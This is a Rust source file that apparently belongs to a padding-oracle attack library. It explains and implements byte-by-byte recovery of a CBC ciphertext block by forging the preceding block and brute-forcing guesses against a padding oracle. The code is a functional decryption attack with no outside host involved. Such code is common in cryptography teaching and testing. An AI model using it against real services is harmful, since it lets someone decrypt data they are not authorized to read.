// Recovery of a single CBC block through a padding oracle.
//
// CBC decryption of block C_i is
//
//                 P_i = D(C_i) ⊕ C_{i-1}.
//
// If we replace the prior block C_{i-1} with a block X that we control, the
// oracle decrypts C_i to
//
//                 P'_i = D(C_i) ⊕ X = P_i ⊕ C_{i-1} ⊕ X.
//
// No key is involved, so if we can find the X for which P'_i ends in valid
// padding we know P'_i and hence P_i. We work from the last byte towards the
// first: to learn byte k we force every byte after k to decrypt to the padding
// value 'B - k' (we already know those plaintext bytes) and vary X[k] until
// the oracle accepts. Writing X[k] = C_{i-1}[k] ⊕ g, the accepted guess gives
//
//                 P_i[k] = g ⊕ (B - k).
//
// Guess zero leaves the byte unmodified, so it is not queried. If none of the
// 255 other guesses is accepted, the unmodified byte already decrypts to the
// padding value and that is the plaintext byte.
//
// The first accepted guess wins. A guess that spells a different, longer
// valid padding (e.g. '\x02\x02' when looking for '\x01') is indistinguishable
// from the right answer and is not disambiguated.
use log::{debug, trace};

use crate::PaddingOracle;

/// Recovers the `target.len()` plaintext bytes of `target`.
///
/// Every query sent to the oracle is `prefix ‖ X ‖ target`, so it always has
/// the length of the window being attacked. `prior` must be the same length
/// as `target`.
pub(crate) async fn recover_block<O>(
    prefix: &[u8],
    prior: &[u8],
    target: &[u8],
    oracle: &O,
) -> Vec<u8>
where
    O: PaddingOracle + ?Sized,
{
    let block_size = target.len();
    let mut plaintext_block: Vec<u8> = Vec::with_capacity(block_size);
    for offset in (0..block_size).rev() {
        let padding_value = (block_size - offset) as u8;
        let mut query = Vec::with_capacity(prefix.len() + 2 * block_size);
        query.extend_from_slice(prefix);
        query.extend_from_slice(&make_forced_prior(
            prior,
            offset,
            padding_value,
            &plaintext_block,
        ));
        query.extend_from_slice(target);

        let index = prefix.len() + offset;
        let byte = match brute_force_byte(&mut query, index, prior[offset], oracle).await {
            Some(guess) => guess ^ padding_value,
            None => {
                debug!("no guess accepted at offset {offset}, byte is {padding_value:#04x}");
                padding_value
            }
        };
        trace!("recovered byte {byte:#04x} at offset {offset}");
        plaintext_block.insert(0, byte);
    }
    plaintext_block
}

/// Builds the prior block for the query at `offset`.
///
/// Bytes before `offset` are copied, the byte at `offset` is left as is to be
/// overwritten by the brute force, and each byte after it is set so that its
/// plaintext decrypts to `padding_value`.
fn make_forced_prior(
    prior: &[u8],
    offset: usize,
    padding_value: u8,
    found_plaintext: &[u8],
) -> Vec<u8> {
    let mut forced = prior[..=offset].to_vec();
    forced.extend(
        prior[offset + 1..]
            .iter()
            .zip(found_plaintext)
            .map(|(c, p)| c ^ p ^ padding_value),
    );
    forced
}

/// Tries guesses 1..=255 at `query[index]`, writing `original ^ guess` into
/// the query each time, and returns the first one the oracle accepts.
pub(crate) async fn brute_force_byte<O>(
    query: &mut [u8],
    index: usize,
    original: u8,
    oracle: &O,
) -> Option<u8>
where
    O: PaddingOracle + ?Sized,
{
    for guess in 1..=u8::MAX {
        query[index] = original ^ guess;
        if oracle.padding_valid(query).await {
            return Some(guess);
        }
    }
    None
}
